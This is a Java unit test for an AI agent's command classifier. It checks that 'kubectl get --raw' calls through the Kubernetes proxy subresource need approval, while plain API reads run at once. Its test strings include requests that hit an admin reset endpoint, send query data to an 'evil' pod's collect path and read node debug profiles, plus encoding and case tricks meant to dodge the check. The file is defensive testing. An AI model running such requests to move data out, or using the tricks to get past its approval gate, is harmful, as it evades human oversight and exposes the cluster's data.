package dev.oats.tools.shell;

import static org.assertj.core.api.Assertions.assertThat;

import dev.oats.tool.SideEffect;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * {@code kubectl get --raw} through the API server's proxy subresource reaches a pod's, service's
 * or node's own HTTP endpoint with the path and query the model wrote: an admin endpoint that acts
 * on a GET, or a pod of whoever wrote the log line that asked for it, carrying what the model read
 * in its query. {@code curl} to those hosts needs an approval; so does this. The API reads beside
 * them still run at once.
 */
class KubectlRawProxyAttackTest {

  static Stream<String> throughAProxy() {
    return Stream.of(
        "kubectl get --raw /api/v1/namespaces/shop/services/pay:80/proxy/admin/reset",
        "kubectl get --raw '/api/v1/namespaces/shop/services/https:pay:443/proxy/?d=x'",
        "kubectl get --raw /api/v1/namespaces/evil/pods/evil-0:8080/proxy/collect?k=v",
        "kubectl get --raw=/api/v1/namespaces/evil/pods/evil-0/proxy/",
        "kubectl get --raw /api/v1/nodes/node-1/proxy/debug/pprof/profile",
        "kubectl get --raw /api/v1/namespaces/shop/services/pay%3A80/PROXY/x",
        "kubectl get --raw /api/v1/namespaces/shop/services/pay/proxy%2Fx",
        "kubectl -n shop get --raw //api/v1/namespaces/shop/pods/p//proxy//x",
        // A malformed escape is judged as written, not thrown on.
        "kubectl get --raw /api/v1/namespaces/shop/pods/p/proxy/%zz",
        "kubectl get --raw \"$P\"");
  }

  static Stream<String> apiReads() {
    return Stream.of(
        "kubectl get --raw /api/v1/namespaces/default/pods",
        "kubectl get --raw /metrics",
        "kubectl get --raw '/readyz?verbose'",
        "kubectl get --raw /api/v1/namespaces/kube-system/configmaps/kube-proxy",
        "kubectl get --raw /apis/metrics.k8s.io/v1beta1/namespaces/shop/pods",
        "kubectl get --raw /api/v1/namespaces/shop/pods/%zz",
        "kubectl get pods/web%zz -n shop");
  }

  @ParameterizedTest
  @MethodSource("throughAProxy")
  void aRawRequestThroughTheProxySubresourceNeedsAnApproval(String line) {
    assertThat(CommandClassifier.classify(line)).as(line).isNotEqualTo(SideEffect.READ_ONLY);
  }

  @ParameterizedTest
  @MethodSource("apiReads")
  void aRawReadOfTheApiItselfStillRunsAtOnce(String line) {
    assertThat(CommandClassifier.classify(line)).as(line).isEqualTo(SideEffect.READ_ONLY);
  }
}
